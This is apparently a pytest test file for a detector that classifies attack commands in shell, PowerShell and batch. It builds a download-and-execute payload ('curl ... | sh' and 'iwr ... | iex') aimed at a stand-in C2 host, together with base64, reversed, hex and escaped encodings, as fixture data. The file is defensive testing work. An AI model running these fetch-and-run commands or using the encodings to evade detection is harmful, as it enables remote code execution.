"""Attacks as they are written, one command text after another, and what each of them must be told as.

`fixtures/commands/<dialect>.txt`: a line `== NAME SUBJECT` (the beginning of a fact), then the text. Hosts
are reserved ones; what is encoded is put in here, so that the fixtures stay readable.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from fimci.capabilities.commands import judge
from fimci.capabilities.commands.state import Dialect

FIXTURES = Path(__file__).parent.parent.parent / "fixtures" / "commands"
HOST = "c2.example.invalid"
URL = f"https://{HOST}/x"
PAYLOAD = f"curl {URL} | sh".encode()
ENCODED = base64.b64encode(PAYLOAD).decode()
PUT_IN = {
    "%URL%": URL,
    "%HOST%": HOST,
    "%BASE64%": ENCODED,
    "%REVERSED%": ENCODED[::-1],
    "%HEX%": PAYLOAD.hex(),
    "%ESCAPED%": "".join(f"\\x{byte:02x}" for byte in PAYLOAD),
    "%UTF16%": base64.b64encode(f"iwr {URL} | iex".encode("utf-16-le")).decode(),
}
CASES = [
    (dialect, *case.partition("\n")[::2])
    for dialect in ("sh", "powershell", "batch")
    for case in (FIXTURES / f"{dialect}.txt").read_text().removeprefix("== ").split("\n\n== ")
]


def filled(text: str) -> str:
    for name, value in PUT_IN.items():
        text = text.replace(name, value)
    return text


@pytest.mark.parametrize(
    ("dialect", "expected", "text"), CASES, ids=[f"{number}" for number in range(len(CASES))]
)
def test_what_an_attack_is_told_as(dialect: Dialect, expected: str, text: str) -> None:
    judged = judge(filled(text).rstrip("\n"), dialect)
    told = sorted(f"{fact.name} {fact.subject}" for fact in judged.facts)
    assert any(one.startswith(filled(expected)) for one in told), told
    assert judged.whole
    last = text.count("\n")
    assert all(0 <= fact.line <= last for fact in judged.facts)


def test_there_are_many() -> None:
    assert len(CASES) > 400
